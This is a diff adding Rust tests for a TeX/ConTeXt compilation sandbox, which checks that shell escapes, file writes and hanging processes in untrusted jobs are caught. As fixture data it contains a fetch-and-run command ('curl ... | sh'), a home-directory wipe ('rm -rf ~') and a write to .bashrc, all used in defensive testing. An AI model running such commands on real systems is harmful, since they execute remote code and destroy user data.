@@ -0,0 +1,105 @@
+use context_runtime::sandbox::{SandboxPolicy, ViolationKind};
+
+const BLOCKED_LOG: &str = "\
+open source     > level 1, order 1, name 'untrusted.tex'
+runsystem(curl https://example.com/payload | sh)...disabled.
+close source    > level 1, order 1, name 'untrusted.tex'
+";
+
+#[test]
+fn test_finds_violations_in_log() {
+    let policy = SandboxPolicy::hardened();
+
+    let violation = policy.find_violation(BLOCKED_LOG).expect("Violation not found");
+    assert_eq!(violation.kind, ViolationKind::ShellEscape);
+    assert_eq!(violation.detail, "curl https://example.com/payload | sh");
+
+    let violation = policy.find_violation("tex: Not writing to /home/user/.bashrc (openout_any = p).")
+        .expect("Violation not found");
+    assert_eq!(violation.kind, ViolationKind::FileAccess);
+    assert_eq!(violation.detail, "/home/user/.bashrc");
+
+    assert_eq!(SandboxPolicy::trusted().find_violation(BLOCKED_LOG), None);
+}
+
+#[cfg(unix)]
+#[tokio::test]
+async fn test_local_backend_restricts_run_and_reports_violation() {
+    use context_runtime::backend_traits::{BackendError, CompilationBackend, CompilationRequest, LocalBackend};
+    use std::os::unix::fs::PermissionsExt;
+
+    let temp_dir = tempfile::TempDir::new().expect("Failed to create temp dir");
+    let mtxrun = temp_dir.path().join("mtxrun");
+    let script = "#!/bin/sh\necho \"args: $*\"\necho \"env: shell_escape=$shell_escape openin_any=$openin_any openout_any=$openout_any\"\necho 'runsystem(rm -rf ~)...disabled.'\n";
+    std::fs::write(&mtxrun, script).expect("Failed to write dummy mtxrun");
+    std::fs::set_permissions(&mtxrun, std::fs::Permissions::from_mode(0o755)).unwrap();
+
+    let policy = SandboxPolicy { isolate: false, ..SandboxPolicy::hardened() };
+    let backend = LocalBackend::new(Some(mtxrun))
+        .expect("Failed to create local backend")
+        .with_sandbox(policy);
+
+    let result = backend.compile(CompilationRequest {
+        content: r"\starttext \executesystemcommand{rm -rf ~} \stoptext".to_string(),
+        job_id: "untrusted.tex".to_string(),
+        ..Default::default()
+    })
+    .await;
+
+    match result {
+        Err(BackendError::PolicyViolation { violation, log }) => {
+            assert_eq!(violation.kind, ViolationKind::ShellEscape);
+            assert!(log.contains("--sandbox --paranoid"), "Unexpected log: {}", log);
+            assert!(log.contains("shell_escape=f openin_any=p openout_any=p"), "Unexpected log: {}", log);
+        }
+        other => panic!("Expected a policy violation, got {:?}", other.map(|r| r.success)),
+    }
+}
+
+#[cfg(unix)]
+#[tokio::test]
+async fn test_isolated_runs_only_see_the_system_and_tex_tree() {
+    use std::os::unix::fs::PermissionsExt;
+    use std::path::Path;
+
+    // tex/texmf-linux-64/bin/mtxrun, like a ConTeXt standalone installation.
+    let temp_dir = tempfile::TempDir::new().expect("Failed to create temp dir");
+    let root = temp_dir.path().canonicalize().unwrap().join("tex");
+    let bin = root.join("texmf-linux-64").join("bin");
+    let local = temp_dir.path().canonicalize().unwrap().join("texmf-local");
+    std::fs::create_dir_all(&bin).unwrap();
+    std::fs::create_dir_all(&local).unwrap();
+    let mtxrun = bin.join("mtxrun");
+    let script = format!("#!/bin/sh\necho '{{{},!!/nonexistent/texmf}}'\n", local.display());
+    std::fs::write(&mtxrun, script).expect("Failed to write dummy mtxrun");
+    std::fs::set_permissions(&mtxrun, std::fs::Permissions::from_mode(0o755)).unwrap();
+
+    let paths = SandboxPolicy::hardened().readable_paths(&mtxrun).await;
+    assert!(paths.contains(&root), "{:?}", paths);
+    assert!(paths.contains(&local), "{:?}", paths);
+    assert!(paths.iter().any(|path| path == Path::new("/usr")));
+    for hidden in ["/", "/home", "/root"] {
+        assert!(!paths.iter().any(|path| path == Path::new(hidden)), "{} is visible: {:?}", hidden, paths);
+    }
+}
+
+#[cfg(unix)]
+#[tokio::test(start_paused = true)]
+async fn test_a_hanging_mtxrun_leaves_the_tex_tree_at_its_installation() {
+    use std::os::unix::fs::PermissionsExt;
+    use std::time::Duration;
+
+    let temp_dir = tempfile::TempDir::new().expect("Failed to create temp dir");
+    let root = temp_dir.path().canonicalize().unwrap().join("tex");
+    let bin = root.join("texmf-linux-64").join("bin");
+    std::fs::create_dir_all(&bin).unwrap();
+    let mtxrun = bin.join("mtxrun");
+    std::fs::write(&mtxrun, "#!/bin/sh\nsleep 600\n").expect("Failed to write dummy mtxrun");
+    std::fs::set_permissions(&mtxrun, std::fs::Permissions::from_mode(0o755)).unwrap();
+
+    // The clock is paused, so this only waits for mtxrun if the lookup has no timeout.
+    let paths = tokio::time::timeout(Duration::from_secs(60), SandboxPolicy::hardened().readable_paths(&mtxrun))
+        .await
+        .expect("The lookup waited for mtxrun");
+    assert!(paths.contains(&root), "{:?}", paths);
+}